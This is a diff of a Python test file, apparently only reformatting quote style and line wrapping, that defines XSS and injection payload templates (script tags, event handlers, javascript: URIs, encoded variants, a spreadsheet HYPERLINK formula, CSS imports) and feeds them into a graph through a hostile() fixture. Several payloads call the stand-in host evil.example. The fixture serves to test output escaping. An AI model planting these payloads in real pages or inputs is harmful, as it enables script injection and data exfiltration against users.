@@ -11,12 +11,12 @@ SCRIPTS = ("alert(1)", "window.evil=1", "fetch('https://evil.example')", "top.lo
 FORMS = (
     "<script>{}</script>",
     "</script><script>{}</script>",
-    "<img src=x onerror=\"{}\">",
+    '<img src=x onerror="{}">',
     "<svg onload={}>",
     "<svg><script>{}</script></svg>",
     "<iframe srcdoc='<script>{}</script>'></iframe>",
     "<body onload={}>",
-    "<a href=\"javascript:{}\">a</a>",
+    '<a href="javascript:{}">a</a>',
     "javascript:{}",
     "JaVaScRiPt:{}//",
     "\u0001javascript:{}",
@@ -48,12 +48,12 @@ FORMS = (
     "&lt;script&gt;{}&lt;/script&gt;",
     "%3Cscript%3E{}%3C/script%3E",
     "\u2028{}\u2029",
-    "\"}};{}//",
+    '"}};{}//',
     "';{}//",
-    "\\\";{}//",
+    '\\";{}//',
     "__proto__[{}]",
     "constructor.constructor('{}')()",
-    "=HYPERLINK(\"https://evil.example\",\"{}\")",
+    '=HYPERLINK("https://evil.example","{}")',
     "@import url(https://evil.example/{})",
     "url('https://evil.example/{}')",
     "https://evil.example/?q={}",
@@ -119,6 +119,14 @@ def hostile() -> tuple[nx.MultiDiGraph[str], dict[str, Quote]]:
         )
         if n % 4 == 0:
             graph.add_edge(
-                id, ids[n + 2], f"PARTICIPATES|{n}", relation="PARTICIPATES", claims=(claim,), count=1, first="", last="", role=text
+                id,
+                ids[n + 2],
+                f"PARTICIPATES|{n}",
+                relation="PARTICIPATES",
+                claims=(claim,),
+                count=1,
+                first="",
+                last="",
+                role=text,
             )
     return graph, quotes
